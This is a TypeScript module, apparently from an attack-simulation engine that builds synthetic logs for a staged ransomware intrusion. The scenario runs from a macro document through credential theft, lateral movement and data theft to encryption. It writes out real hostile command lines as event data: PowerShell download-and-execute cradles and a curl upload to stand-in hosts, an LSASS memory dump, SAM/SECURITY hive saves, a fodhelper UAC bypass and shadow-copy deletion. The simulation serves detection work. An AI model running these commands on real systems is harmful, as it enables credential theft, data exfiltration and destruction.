import {
  accepted,
  changeKey,
  connect,
  deleteFile,
  inside,
  pipe,
  resolve,
  scriptBlock,
  setValue,
  writeFile,
} from '../engine/activity.ts';
import { localTime, workingTime } from '../engine/calendar.ts';
import { explicitLogon, networkLogon, shareAccess } from '../engine/logons.ts';
import type { Process } from '../engine/process.ts';
import type { Session, World } from '../engine/world.ts';
import { PROGRAMS } from '../model/binaries.ts';
import { serviceInstalled, supportVisit } from '../noise/admin.ts';
import { documentName, open } from '../noise/desk.ts';
import { encodeCommand } from '../noise/expected.ts';
import { ensureDesk } from '../noise/workday.ts';
import { HOUR, MINUTE } from '../types.ts';
import { beacon, type Campaign, command, foreign, timeline } from './campaign.ts';

const CONTROL = { name: 'cdn.remit-ledger.example', ip: '203.0.113.61', port: 443 };
const DROP = { name: 'files.boxlane-transfer.example', ip: '198.51.100.77', port: 443 };
const SECOND = 1000;

/** A document by mail leads to an implant, stolen credentials, a file server, stolen archives and a started encryption. */
export function intrusion(world: World): Campaign {
  const { org, sim } = world;
  const victim = org.people.find((p) => p.department === 'Finance' && p.site.code === 'HBR')!;
  const helper = org.people.find((p) => p.admin !== undefined && /Service Desk/.test(p.title))!;
  const admin = helper.admin!;
  const machine = world.of(victim.device);
  const files = world.server('FS01');
  const erp = world.server('ERP01');
  const random = world.random.fork('campaign/intrusion');
  const start = workingTime(world, 9, 10.3);
  const lateral = start + 25 * HOUR;
  const theft = lateral + 22 * HOUR;
  const encryption = localTime(world, 2, 22.7);
  const profile = `C:\\Users\\${victim.account.name}`;
  const implantPath = '~\\AppData\\Roaming\\LedgerSync\\lsync.exe';
  let desk: Session;
  let implant: Process;
  let elevated: Process;
  let agent: Process;

  const opening = () => {
    machine.keepOn = true;
    ensureDesk(world, victim, 6, (session) => {
      desk = session;
      const outlook = open(world, session, 'outlook');
      const folder = `${profile}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${random.text('ABCDEFGHJKLMNPQRSTUVWXYZ23456789', 8)}`;
      const file = `${folder}\\Remittance advice ${random.between(4000, 9999)}.docm`;
      writeFile(machine, outlook, file);
      sim.after(22 * SECOND, () => {
        const word = machine.spawn('winword', {
          command: `"${PROGRAMS.winword.path}" /n "${file}" /o ""`,
          parent: outlook,
          life: 14 * MINUTE,
        });
        sim.after(31 * SECOND, () => script(word));
      });
    });
  };
  const script = (word: Process) => {
    const path = `${profile}\\AppData\\Local\\Temp\\remit_${random.hex(4)}.vbs`;
    writeFile(machine, word, path);
    const host = machine.spawn('wscript', {
      command: `"C:\\Windows\\System32\\wscript.exe" "${path}" //B //NoLogo`,
      parent: word,
      life: 40 * SECOND,
    });
    sim.after(2 * SECOND, () => {
      const cradle = `$w = New-Object Net.WebClient; $w.Headers.Add('User-Agent','Mozilla/5.0'); IEX ($w.DownloadString('https://${CONTROL.name}/s/${random.hex(6)}'))`;
      const shell = machine.spawn('powershell', {
        command: `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden -ep bypass -enc ${encodeCommand(cradle)}`,
        parent: host,
        life: 3 * MINUTE,
      });
      scriptBlock(machine, shell, cradle);
      sim.after(1_400, () => {
        resolve(machine, shell, CONTROL.name, [CONTROL.ip]);
        connect(machine, shell, CONTROL);
      });
      sim.after(6 * SECOND, () => {
        scriptBlock(
          machine,
          shell,
          `$p = "$env:APPDATA\\LedgerSync"; New-Item -ItemType Directory -Force $p | Out-Null\n[IO.File]::WriteAllBytes("$p\\lsync.exe", [Convert]::FromBase64String($d))\nSet-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name LedgerSync -Value "$p\\lsync.exe"\nStart-Process "$p\\lsync.exe" -WindowStyle Hidden`,
        );
        const path = implantPath.replace('~', profile);
        writeFile(machine, shell, path);
        setValue(
          machine,
          shell,
          `HKU\\${victim.account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\LedgerSync`,
          path,
        );
        sim.after(3 * SECOND, () => {
          implant = machine.spawn(foreign(implantPath), { parent: shell });
          beacon(world, machine, implant, CONTROL, 9 * MINUTE, theft + 8 * HOUR);
        });
      });
    });
  };
  const lookAround = () => {
    const list = [
      ['whoami', 'whoami /all'],
      ['ipconfig', 'ipconfig /all'],
      ['systeminfo', 'systeminfo'],
      ['nltest', 'nltest /dclist:ad.northmoor.example'],
    ] as const;
    list.forEach(([key, text], i) => {
      sim.after(i * random.between(15, 50) * SECOND, () => command(machine, implant, key, text));
    });
    sim.after(4 * MINUTE, () => {
      for (const text of ['net group "Domain Admins" /domain', 'net localgroup administrators']) {
        const first = command(machine, implant, 'net', text, 1_600);
        machine.spawn('net1', {
          command: text.replace('net ', 'C:\\Windows\\system32\\net1 '),
          parent: first,
          life: 1_400,
        });
      }
    });
  };
  const elevate = () => {
    const key = `HKU\\${victim.account.sid}_Classes\\ms-settings\\shell\\open\\command`;
    changeKey(machine, implant, key, 'CreateKey');
    setValue(machine, implant, `${key}\\(Default)`, implant.image);
    setValue(machine, implant, `${key}\\DelegateExecute`, '(Empty)');
    sim.after(900, () => {
      const broker = machine.spawn('fodhelper', {
        command: '"C:\\Windows\\system32\\fodhelper.exe"',
        parent: implant,
        integrity: 'High',
        life: 5 * SECOND,
      });
      elevated = machine.spawn(foreign(implantPath), { parent: broker });
    });
    sim.after(8 * SECOND, () => changeKey(machine, implant, key, 'DeleteKey'));
  };
  const credentials = () => {
    const lsass = machine.standing.lsass!;
    machine.access(elevated, lsass, '0x1010', 'UNKNOWN');
    sim.after(11 * MINUTE, () => {
      const dump = 'C:\\Users\\Public\\sysupd.dmp';
      const tool = command(
        machine,
        elevated,
        'rundll32',
        `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`,
        7 * SECOND,
      );
      sim.after(700, () => {
        machine.access(tool, lsass, '0x1fffff', 'DUMP');
        writeFile(machine, tool, dump);
      });
      sim.after(9 * MINUTE, () => deleteFile(machine, elevated, dump));
    });
  };
  const moveToFiles = () => {
    explicitLogon(machine, desk.logon, admin, files.device.fqdn, implant);
    connect(machine, implant, inside(files.device, 135));
    connect(machine, machine.standing.system!, inside(files.device, 445));
    accepted(files, files.standing.system!, { ip: machine.device.ip, host: machine.device.fqdn, port: 51_344 }, 445);
    const logon = networkLogon(world, files, admin, machine.device, { package: 'NTLM', hold: 12 * MINUTE });
    if (logon === null) return;
    shareAccess(files, logon, machine.device, '\\\\*\\ADMIN$', '\\??\\C:\\Windows');
    writeFile(files, files.standing.system!, 'C:\\Windows\\wsyncsvc.exe');
    pipe(files, files.standing.system!, '\\svcctl', 'ConnectPipe');
    sim.after(1_900, () => {
      const path = '%SystemRoot%\\wsyncsvc.exe';
      setValue(
        files,
        files.standing.services!,
        'HKLM\\System\\CurrentControlSet\\Services\\WinSyncHelper\\ImagePath',
        path,
      );
      serviceInstalled(files, logon, admin, 'WinSyncHelper', path, 'demand start');
      sim.after(400, () => {
        agent = files.spawn(foreign('C:\\Windows\\wsyncsvc.exe'), {
          command: 'C:\\Windows\\wsyncsvc.exe',
          parent: files.standing.services!,
        });
        beacon(world, files, agent, CONTROL, 22 * MINUTE, encryption + 30 * MINUTE);
        command(files, agent, 'whoami', 'whoami');
      });
    });
  };
  const hives = () => {
    ['SAM', 'SYSTEM', 'SECURITY'].forEach((hive, i) => {
      sim.after(i * 4 * SECOND, () => {
        const path = `C:\\Windows\\Temp\\wsy${i}.tmp`;
        const tool = command(files, agent, 'reg', `reg save HKLM\\${hive} ${path} /y`, 2_500);
        sim.after(600, () => writeFile(files, tool, path));
      });
    });
  };
  const moveToErp = () => {
    connect(machine, implant, inside(erp.device, 135));
    const logon = networkLogon(world, erp, admin, machine.device, { package: 'NTLM', hold: 40 * MINUTE });
    if (logon === null) return;
    accepted(erp, erp.standing.svchost!, { ip: machine.device.ip, host: machine.device.fqdn, port: 51_720 }, 135);
    const provider = erp.spawn('wmiprvse', {
      command: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
      parent: erp.standing.svchost!,
      logon: erp.standing.wmi!.logon,
      life: 38 * MINUTE,
    });
    const run = (text: string, key: 'tasklist' | 'quser' | 'net') => {
      const shell = erp.spawn('cmd', {
        command: `cmd.exe /Q /c ${text} 1> \\\\127.0.0.1\\ADMIN$\\__${Math.floor(sim.now / 1000)} 2>&1`,
        parent: provider,
        logon,
        integrity: 'High',
        folder: 'C:\\',
        life: 1_500,
      });
      erp.spawn(key, { command: text, parent: shell, life: 1_200 });
    };
    run('tasklist', 'tasklist');
    sim.after(3 * MINUTE, () => run('quser', 'quser'));
    sim.after(9 * MINUTE, () => {
      const text = `IEX ((New-Object Net.WebClient).DownloadString('https://${CONTROL.name}/e/${random.hex(6)}'))`;
      const shell = erp.spawn('powershell', {
        command: `powershell.exe -NoP -NonI -W Hidden -Enc ${encodeCommand(text)}`,
        parent: provider,
        logon,
        integrity: 'High',
        life: 25 * MINUTE,
      });
      scriptBlock(erp, shell, text);
      resolve(erp, shell, CONTROL.name, [CONTROL.ip]);
      connect(erp, shell, CONTROL);
    });
  };
  const steal = () => {
    if (!agent?.alive) return;
    command(files, agent, 'net', 'net share');
    sim.after(2 * MINUTE, () =>
      files.spawn('cmd', {
        command:
          'C:\\Windows\\system32\\cmd.exe /c dir /s /b D:\\Shares\\Finance D:\\Shares\\Legal > C:\\ProgramData\\wsync\\l.txt',
        parent: agent,
        life: 6 * SECOND,
      }),
    );
    const archives = ['Finance', 'Legal', 'People'].map((share, i) => ({
      share,
      path: `C:\\ProgramData\\wsync\\d${i + 1}.7z`,
    }));
    archives.forEach(({ share, path }, i) => {
      sim.after((12 + i * 9) * MINUTE, () => {
        const packer = files.spawn(foreign('C:\\ProgramData\\wsync\\7za.exe'), {
          command: `7za.exe a -mx1 -v200m -hp${random.hex(10)} ${path} D:\\Shares\\${share}`,
          parent: agent,
          life: 7 * MINUTE,
        });
        sim.after(20 * SECOND, () => writeFile(files, packer, path));
      });
      sim.after((55 + i * 16) * MINUTE, () => {
        const upload = files.spawn('curl', {
          command: `curl.exe -s -k -T ${path} https://${DROP.name}/u/${random.hex(8)}`,
          parent: agent,
          life: 11 * MINUTE,
        });
        resolve(files, upload, DROP.name, [DROP.ip]);
        connect(files, upload, DROP);
        sim.after(12 * MINUTE, () => deleteFile(files, agent, path));
      });
    });
  };
  const encrypt = () => {
    if (!agent?.alive) return;
    writeFile(files, agent, 'C:\\ProgramData\\wsync\\wsupd.exe');
    const tool = files.spawn(foreign('C:\\ProgramData\\wsync\\wsupd.exe'), {
      command: 'C:\\ProgramData\\wsync\\wsupd.exe -p D:\\Shares -x halq',
      parent: agent,
      life: 6 * MINUTE,
    });
    const before = [
      ['vssadmin', 'vssadmin.exe delete shadows /all /quiet'],
      ['wbadmin', 'wbadmin delete catalog -quiet'],
      ['bcdedit', 'bcdedit /set {default} recoveryenabled no'],
    ] as const;
    before.forEach(([key, text], i) => {
      sim.after((4 + i * 5) * SECOND, () => command(files, tool, key, text));
    });
    for (let i = 0; i < 180; i++) {
      sim.after(30 * SECOND + i * 1_500, () => {
        const path = `D:\\Shares\\Finance\\${random.between(2019, 2025)}\\${documentName(random)}.${random.pick(['xlsx', 'docx', 'pdf'])}`;
        writeFile(files, tool, `${path}.halq`);
        deleteFile(files, tool, path);
        if (i % 60 === 0) writeFile(files, tool, `D:\\Shares\\Finance\\RESTORE-FILES-${i / 60 + 1}.txt`);
      });
    }
  };

  return {
    id: 'intrusion',
    kind: 'endpoint intrusion',
    scenario: `A mailed document is opened in ${victim.department} on ${victim.device.name}; an administrator's credentials are taken there and used on ${files.device.name} and ${erp.device.name}.`,
    devices: [machine, files, erp].map((m) => m.device.name),
    identities: [victim.account.name, admin.name],
    start,
    end: encryption + 6 * MINUTE,
    schedule() {
      timeline(world, start, [
        [-90 * MINUTE, () => ensureDesk(world, victim, 8, (session) => supportVisit(world, helper, victim, session))],
        [0, opening],
        [47 * MINUTE, lookAround],
        [95 * MINUTE, elevate],
        [98 * MINUTE, credentials],
        [lateral - start, moveToFiles],
        [lateral - start + 35 * MINUTE, hives],
        [lateral - start + 128 * MINUTE, moveToErp],
        [theft - start, steal],
        [theft - start + 9 * HOUR, () => (machine.keepOn = false)],
        [encryption - start, encrypt],
      ]);
    },
  };
}
